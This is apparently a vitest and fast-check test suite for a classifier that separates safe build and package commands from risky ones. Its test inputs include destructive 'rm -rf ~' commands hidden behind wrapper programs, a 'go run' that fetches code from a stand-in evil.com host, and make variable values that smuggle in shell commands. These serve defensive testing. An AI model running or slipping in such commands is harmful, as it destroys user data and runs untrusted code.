import { caseCount } from '@tenon/test-kit/properties';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loudOnes, othersThan, quietOnes, readCommands, understandingOf } from './understanding.ts';

const { everyday, risky } = readCommands('building');

describe('the grammars of builds, tests and packages', () => {
  it('prove what developers do every day', async () => {
    expect(await loudOnes(everyday)).toEqual([]);
  });

  it('never prove code of others, other places or other programs', async () => {
    expect(await quietOnes(risky)).toEqual([]);
  });

  it('take no value of a flag for a subcommand, and no flag for a value', async () => {
    expect(
      await quietOnes(`
      npm --tag ls publish
      npm --tag=ls publish
      npm --loglevel ls publish
      npm --tag --call=evil exec
      npm exec --call=evil
      npm exec --call 'rm -rf ~'
      pnpm --filter ls publish
      cargo --color build publish
      go -C version run evil.com/x@latest
    `),
    ).toEqual([]);
  });

  it('believe a dry run only where nothing takes it back', async () => {
    expect(
      await othersThan(
        1,
        `
      npm publish --dry-run
      pnpm publish --dry-run
      cargo publish --dry-run
    `,
      ),
    ).toEqual([]);
    expect(
      await quietOnes(`
      npm publish --dry-run false
      npm publish --dry-run=false
      npm publish --no-dry-run
      npm publish --dry-run --no-dry-run
      cargo publish --dry-run=false
    `),
    ).toEqual([]);
  });

  it('understand programs that run programs by what they run', async () => {
    expect(
      await quietOnes(`
      c8 rm -rf ~
      npx c8 sh -c 'rm -rf ~'
      bundle exec rm -rf ~
      uv run rm -rf ~
      cmake -E rm -rf ~
      cmake -E env evil
      concurrently 'rm -rf ~'
      cross-env A=1 rm -rf ~
      rustup run stable rm -rf ~
      valgrind rm -rf ~
    `),
    ).toEqual([]);
    expect(
      await loudOnes(`
      c8 npm test
      bundle exec rspec
      npx c8 vitest run
      cross-env NODE_ENV=test vitest run
    `),
    ).toEqual([]);
  });

  it('let no variable of make be a program', async () => {
    const name = fc.constantFrom(
      'SHELL',
      'MAKEFLAGS',
      'CC',
      'CXX',
      'PYTHON',
      'RUN',
      'TESTS',
      'ARGS',
      'CFLAGS',
      'X',
      '.SHELLFLAGS',
      'MAKE',
    );
    const value = fc.constantFrom(
      '/tmp/evil',
      'sh -c evil',
      '`evil`',
      '$(shell evil)',
      'evil;',
      '-fplugin=/tmp/x.so;',
      '!evil',
      '| evil',
      '> x',
      "a'b",
    );
    await fc.assert(
      fc.asyncProperty(name, value, async (variable, text) => {
        // Flags may name files for a program of the project.
        if (/^(ARGS|CFLAGS)$/.test(variable) && /^\/?[\w./-]+$|^sh -c evil$/.test(text)) return;
        const command = `make '${variable}=${text.replaceAll("'", `'\\''`)}'`;
        expect([command, await understandingOf(command)]).toEqual([command, 'unclear']);
      }),
    );
  });

  it('find unknown flags, values and abbreviations anywhere', async () => {
    const lines = everyday
      .split('\n')
      .map((line) => line.trim())
      .filter(
        (line) =>
          /^[a-z][\w-]*( [\w./=:-]+)*$/.test(line) && !/ -- |exec|npx|pnpm |yarn |bun|run |uv |poetry|task/.test(line),
      );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...lines),
        fc.constantFrom('--evil=/tmp/x', '--unlisted', '--confi=/tmp/x', '--outpu=/tmp/x'),
        async (line, flag) => {
          const [program = '', ...words] = line.split(' ');
          // Directly behind the program it is nobody's value.
          const command = [program, flag, ...words].join(' ');
          expect([command, await understandingOf(command)]).not.toEqual([command, 0]);
          expect([command, await understandingOf(command)]).not.toEqual([command, 1]);
        },
      ),
      { numRuns: caseCount(200) },
    );
  });
});
